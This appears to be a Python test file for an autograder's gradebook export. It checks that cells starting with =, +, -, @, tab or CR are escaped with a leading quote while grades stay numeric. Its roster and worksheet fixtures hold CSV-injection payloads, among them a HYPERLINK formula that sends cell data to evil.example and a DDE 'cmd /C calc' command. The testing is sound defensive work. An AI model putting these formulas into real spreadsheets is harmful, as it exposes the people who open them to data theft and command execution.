"""Exports carry no spreadsheet formula (issue 25, item 2): every text cell that starts with
``=``, ``+``, ``-``, ``@``, tab or CR is written as text (a leading ``'``, the OWASP rule), in every
format; numbers (a grade, a negative late penalty) and Moodle's ``-`` stay as the LMS reads them."""
import csv
import io

import pytest
from click.testing import CliRunner

from autograder.cli import main
from autograder.grading.gradebook import merge
from tests import gradebooks

HOSTILE = ("id,first_name,last_name,email,lms_user_id,participant_id,id_number\n"
           's001,Jane,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",jane@uni.edu,12345,71,@SUM(1+1)\n'
           "s002,+1+1,Smith,-2+3@uni.edu,23456,72,\t=1+1\n")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def course(tmp_path):
    course = gradebooks.make(tmp_path / "course")
    for s in ("s001", "s002"):
        gradebooks.submit(course, s)
        merge(course, gradebooks.result(s, {"test_square": 1.0}))
    return course


def export(course, tmp_path, *args):
    roster = tmp_path / "roster.csv"
    roster.write_text(HOSTILE)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["--course", str(course.root), "--config", str(course.root / "none.py"),
                                       "export", "-o", str(out), "--roster", str(roster), *args],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))


def formulas(rows):
    """Cells a spreadsheet would run: a trigger first, and not a plain number."""
    def number(cell):
        try:
            float(cell)
            return True
        except ValueError:
            return False
    return [c for r in rows for c in r if c.startswith(TRIGGERS) and not number(c) and c != "-"]


@pytest.mark.parametrize("args", [["fx", "--format", "canvas", "--canvas-id", "fx=9001"],
                                  ["fx", "--format", "moodle"],
                                  ["--format", "moodle-gradebook"],
                                  ["--format", "plain"], ["--format", "long"]])
def test_no_cell_of_any_format_is_a_formula(course, tmp_path, args):
    rows = export(course, tmp_path, *args)
    assert formulas(rows) == []
    text = [c for r in rows for c in r]
    assert any(c.startswith("'") for c in text) or args[-1] in ("plain", "long")  # the names are there, as text
    assert "1" in text  # the grade itself is still a number


def test_cells_the_lms_reads_back_are_unchanged(course, tmp_path):
    sheet = tmp_path / "worksheet.csv"
    sheet.write_text("Identifier,Full name,Email address,Grade,Maximum Grade,Last modified (grade)\n"
                     "Participant 71,=cmd|' /C calc'!A0,jane@uni.edu,,4.00,-\n"
                     "Participant 72,Bob Smith,bob@uni.edu,,4.00,\"Monday, 30 November 2026, 9:00 AM\"\n")
    rows = export(course, tmp_path, "fx", "--format", "moodle", "--moodle-worksheet", str(sheet))
    assert rows[1] == ["Participant 71", "'=cmd|' /C calc'!A0", "jane@uni.edu", "1", "4.00", "-"]


def test_the_rule_itself():
    from autograder.lms.export import csv_cell

    assert [csv_cell(c) for c in ["=1+1", "+1+1", "-x", "@a", "\tx", "\rx", "a=b", "-inf", "-1.5e"]] == [
        "'=1+1", "'+1+1", "'-x", "'@a", "'\tx", "'\rx", "a=b", "'-inf", "'-1.5e"]
    assert [csv_cell(c) for c in ["-1.5", "+2", "-", "", "1e3", 3, -0.5]] == ["-1.5", "+2", "-", "", "1e3", "3", "-0.5"]
